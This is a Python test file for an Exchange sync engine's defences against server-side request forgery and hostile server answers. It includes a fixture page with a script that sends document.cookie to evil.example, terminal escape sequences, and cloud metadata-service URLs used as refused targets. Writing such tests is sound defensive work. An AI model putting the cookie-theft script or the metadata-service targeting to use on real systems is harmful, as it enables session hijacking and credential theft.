"""Connections the engine opens (SPEC §13): checked again at connection time, on the
resolved addresses, before the service account's credentials leave; and whatever answers is
kept and shown only as a short excerpt.

Real exchangelib through `sync_user`, against local servers standing in for what a
configured URL may reach.
"""

from __future__ import annotations

import io

import pytest
import requests
from django.core.management import CommandError, call_command
from django.test import override_settings

from lightningsync import outbound
from lightningsync.models import LightningSyncError, UserSyncState
from syncengine.cycle import runner
from syncengine.transports.guarded_http import RefusedDestination, checked_addresses, guard
from tests.factories import SyncConfigurationFactory, UserFactory

from .ews_fixtures import MAILBOX, EwsWorld, ews_fixture, point_setup_at  # noqa: F401
from .http_doubles import Answer, RecordingServer, fake_network

ALIAS = "ews.metadata-alias.test"  # a name an attacker (or a typo) points at the metadata service
METADATA_IP = "169.254.169.254"


def _point_at(ews: EwsWorld, url: str) -> None:
    """Setup's EWS URL as stored (a host name passes the save-time check: it is not resolved)."""
    ews.setup.ews_url = url
    ews.setup.save()


@override_settings(LIGHTNINGSYNC_ALLOW_HTTP_HOSTS=["127.0.0.1", ALIAS])
def test_a_host_name_resolving_to_the_metadata_service_is_refused_before_any_request(
    ews, monkeypatch
):  # type: ignore[no-untyped-def]
    with RecordingServer() as metadata, fake_network(monkeypatch) as network:
        network.names[ALIAS] = [METADATA_IP]
        network.routes[METADATA_IP] = metadata.port
        _point_at(ews, f"http://{ALIAS}:{metadata.port}/EWS/Exchange.asmx")

        report = ews.sync()

    assert (metadata.connections, metadata.requests) == (0, [])
    assert network.connects == []
    message = (
        f"{ALIAS} resolves to {METADATA_IP}, a link-local address (cloud metadata service): "
        "Lightning Sync never connects there. Check the URL in Lightning Sync Setup and the "
        "DNS record of the host."
    )
    assert (report.outcome, report.reason) == ("paused", message)
    state = ews.state()
    assert (state.paused_reason, state.last_error) == (
        UserSyncState.PauseReason.CONFIGURATION, message
    )


def test_a_name_with_any_refused_address_is_refused(monkeypatch):  # type: ignore[no-untyped-def]
    with fake_network(monkeypatch) as network:
        network.names["mixed.example.test"] = ["127.0.0.1", METADATA_IP]
        with pytest.raises(RefusedDestination):
            checked_addresses("mixed.example.test", 443)
        network.names["fine.example.test"] = ["127.0.0.1", "10.1.2.3"]
        assert [a[0] for _f, a in checked_addresses("fine.example.test", 443)] == [
            "127.0.0.1", "10.1.2.3"
        ]


@pytest.mark.parametrize(
    ("target", "refusal"),
    [
        (f"http://{ALIAS}:{{port}}/latest/meta-data/", "resolves to 169.254.169.254"),
        (f"http://{METADATA_IP}:{{port}}/latest/meta-data/", "points at 169.254.169.254"),
    ],
)
@override_settings(LIGHTNINGSYNC_ALLOW_HTTP_HOSTS=["127.0.0.1", ALIAS, METADATA_IP])
def test_a_redirect_to_a_refused_address_is_not_followed(monkeypatch, target, refusal):  # type: ignore[no-untyped-def]
    with RecordingServer() as metadata, fake_network(monkeypatch) as network:
        network.names[ALIAS] = [METADATA_IP]
        network.routes[METADATA_IP] = metadata.port
        location = target.format(port=metadata.port)
        with RecordingServer(lambda h, seen: Answer(302, b"", {"Location": location})) as server:
            session = guard(requests.Session())
            with pytest.raises(RefusedDestination, match=refusal):
                session.get(f"http://127.0.0.1:{server.port}/EWS/Exchange.asmx")
    assert len(server.requests) == 1
    assert (metadata.connections, metadata.requests) == (0, [])


@override_settings(LIGHTNINGSYNC_ALLOW_HTTP_HOSTS=[ALIAS])
def test_through_a_proxy_the_target_is_checked_too(monkeypatch):  # type: ignore[no-untyped-def]
    with RecordingServer() as proxy, fake_network(monkeypatch) as network:
        network.names[ALIAS] = [METADATA_IP]
        session = guard(requests.Session())
        with pytest.raises(RefusedDestination, match=r"resolves to 169\.254\.169\.254"):
            session.get(f"http://{ALIAS}/latest/meta-data/",
                        proxies={"http": f"http://127.0.0.1:{proxy.port}"})
    assert (proxy.connections, proxy.requests) == (0, [])


def test_the_engine_does_not_follow_an_exchange_redirect_either(ews, monkeypatch):  # type: ignore[no-untyped-def]
    with RecordingServer() as metadata, fake_network(monkeypatch) as network:
        network.routes[METADATA_IP] = metadata.port
        target = f"http://{METADATA_IP}:{metadata.port}/EWS/Exchange.asmx"
        with RecordingServer(lambda h, seen: Answer(302, b"", {"Location": target})) as server:
            _point_at(ews, f"http://127.0.0.1:{server.port}/EWS/Exchange.asmx")
            report = ews.sync()
    # A setting to correct, not an outage: the user pauses, nothing is retried, and the
    # target (the server's word) is shown as an excerpt, never proposed as the EWS URL.
    assert (report.outcome, report.error_kind) == ("paused", "impersonation")
    assert report.reason == (
        f"The EWS URL answers with a redirect to “{target}”, and Lightning Sync follows no "
        "redirect: enter the address Exchange answers on itself "
        "(https://<server>/EWS/Exchange.asmx) as the EWS URL in Lightning Sync Setup."
    )
    assert ews.sleeps == [] and len(server.requests) == 1
    assert (metadata.connections, metadata.requests) == (0, [])


LONG_HOST = "mail." + "x" * 240 + ".example.com"


@pytest.mark.parametrize(("location", "target", "suggested"), [
    # The server's own address: proposed as the EWS URL.
    ("https://mail.example.com/EWS/Exchange.asmx", "https://mail.example.com/EWS/Exchange.asmx",
     True),
    # http, which that host may not use; elsewhere on the same server (exchangelib makes the
    # target absolute); a sign-in page (exchangelib keeps no query); too long to show whole.
    ("http://mail.example.com/EWS/Exchange.asmx", "http://mail.example.com/EWS/Exchange.asmx",
     False),
    ("/owa/", "http://127.0.0.1:{port}/owa/", False),
    ("https://sso.example.com/adfs/ls/?wa=wsignin1.0", "https://sso.example.com/adfs/ls/", False),
    (f"https://{LONG_HOST}/EWS/Exchange.asmx", f"https://{LONG_HOST}/EWS/Exchange.asmx", False),
])
def test_a_redirect_names_its_target_and_the_url_to_enter(ews, location, target, suggested):  # type: ignore[no-untyped-def]
    with RecordingServer(lambda h, seen: Answer(302, b"", {"Location": location})) as server:
        _point_at(ews, f"http://127.0.0.1:{server.port}/EWS/Exchange.asmx")
        report = ews.sync()
    assert (report.outcome, ews.sleeps, len(server.requests)) == ("paused", [], 1)
    (entry,) = LightningSyncError.objects.all()
    assert entry.message == report.reason == ews.state().paused_message
    target = target.format(port=server.port)
    assert f"redirect to {outbound.excerpt(target, quoted=True)}," in entry.message
    if suggested:
        assert entry.message.endswith(
            f"if that is your Exchange server, enter “{target}” as the EWS URL in Lightning "
            "Sync Setup.")
    else:
        assert "(https://<server>/EWS/Exchange.asmx)" in entry.message


def test_http_reaches_only_allowed_hosts_at_connection_time(ews):  # type: ignore[no-untyped-def]
    # Saved while 127.0.0.1 was allowed; the allowance is withdrawn since.
    with override_settings(LIGHTNINGSYNC_ALLOW_HTTP_HOSTS=[]):
        report = ews.sync()
    assert report.outcome == "paused"
    assert report.reason == (
        f"“{ews.running.ews_url}” uses http://: the URL must be an https:// address (http:// "
        "is allowed only for hosts listed in LIGHTNINGSYNC_ALLOW_HTTP_HOSTS)."
    )
    assert ews.sim.request_count() == 0

    # Allowed again (the test settings allow the loopback host); changing Setup unpauses.
    ews.setup.save()
    assert ews.sync().outcome == "synced"


@override_settings(LIGHTNINGSYNC_ALLOW_HTTP_HOSTS=[])
def test_https_needs_no_allowance(db, exchange_sim_tls):  # type: ignore[no-untyped-def]
    exchange_sim_tls.sim.add_mailbox(MAILBOX)
    setup = point_setup_at(exchange_sim_tls)
    with open(exchange_sim_tls.ca_pem) as f:
        setup.ca_bundle = f.read()
    setup.save()
    rep = UserFactory(username="rep", email=MAILBOX)
    SyncConfigurationFactory(name="Reps", users=[rep], contacts_direction="both")

    assert runner.sync_user(rep.pk, sleep=lambda s: None).outcome == "synced"
    assert exchange_sim_tls.sim.request_count() > 0


# --- what the server says ----------------------------------------------------------------------
HOSTILE = (
    "<html><head><script>document.location='https://evil.example/?c='+document.cookie"
    "</script></head><body>\x1b]0;owned\x07\x1b[2J<h1>Not Exchange</h1>"
    + "<p>filler " * 50_000
    + "</p>\u202eend</body></html>"
).encode()


@pytest.mark.parametrize("status", [200, 403, 500])
def test_an_answer_that_is_not_exchange_is_kept_as_a_short_excerpt(ews, status):  # type: ignore[no-untyped-def]
    with RecordingServer(lambda h, seen: Answer(status, HOSTILE)) as server:
        _point_at(ews, f"http://127.0.0.1:{server.port}/EWS/Exchange.asmx")
        report = ews.sync()
        # The next failure is the one the error report shows.
        UserSyncState.objects.filter(user=ews.rep).update(
            backoff_until=None, attempts=runner.MAX_ATTEMPTS - 1
        )
        out = io.StringIO()  # the user that did not sync: its line goes to stderr
        with pytest.raises(CommandError):
            call_command("lightningsync_sync", "--user", MAILBOX, stdout=io.StringIO(), stderr=out)
    assert server.requests  # it did answer, with a 2 MB page
    assert report.outcome == "backing_off"
    (entry,) = LightningSyncError.objects.all()
    (shown,) = out.getvalue().splitlines()
    texts = [report.reason, ews.state().last_error, entry.message, shown]
    for text in texts:
        assert len(text) <= outbound.EXCERPT_CHARS + 150, text
        assert not any(ord(c) < 32 or 0x7F <= ord(c) <= 0x9F or c == "\u202e" for c in text)
        assert text.count("filler") < 40
    if status != 200:  # exchangelib keeps an HTTP 200's body to itself
        answered = f"MalformedResponseError: the server answered HTTP {status}: “<html><head>"
        assert report.reason.startswith(answered)
        assert report.reason.endswith("</body></html>”")
